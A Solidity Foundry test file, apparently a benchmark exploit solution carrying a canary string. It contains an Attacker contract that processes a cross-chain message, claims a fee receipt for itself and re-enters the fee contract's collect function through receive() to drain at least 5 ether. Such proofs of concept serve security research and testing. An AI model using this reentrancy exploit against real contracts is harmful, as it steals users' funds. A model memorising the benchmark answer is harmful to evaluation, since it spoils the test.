// SPDX-License-Identifier: LGPL-3.0-only
pragma solidity 0.8.30;

// assay-canary-9c41e7d3-2b6f-4a58-8e10-d37f5a0c64b9
import "../Base.sol";

contract Attacker is Agent {
    constructor(Deployment.Station memory home_, Deployment.Station memory away_, address[] memory a, address[] memory b)
        payable
        Agent(home_, away_, a, b)
    {}

    Messages.Message private report;
    uint256 private visits;

    function begin(Messages.Message calldata message) external {
        uint64 count = home.outbox.messageCount();
        away.inbox.process(message, home.lens.siblingsOf(message.nonce, count), message.nonce);
        (bytes32[] memory list, address[] memory who) = (new bytes32[](1), new address[](1));
        (list[0], who[0]) = (Messages.identifierOf(message), address(this));
        report = _receipt(address(home.fees), abi.encode(list, who));
        away.inbox.reportHandlings(11, list);
        _carry(true);
    }

    function end() external {
        _hand(true, report);
        home.fees.collect(payable(address(this)));
    }

    receive() external payable {
        if (++visits > 2) return;
        try home.fees.collect(payable(address(this))) {} catch {}
    }
}

contract Proof is Base {
    Attacker private other;

    function _start() internal override {
        other = new Attacker(home, away, watchers, returning);
    }

    function exploit() public {
        other.begin(pending[0]);
        vm.warp(block.timestamp + 31 minutes);
        other.end();
    }

    function test_Exploit() public {
        exploit();
        require(address(other).balance >= 5 ether, "no gain");
    }

    function target() public view override returns (address) {
        return address(home.fees);
    }

    function attacker() public view returns (address) {
        return address(other);
    }
}
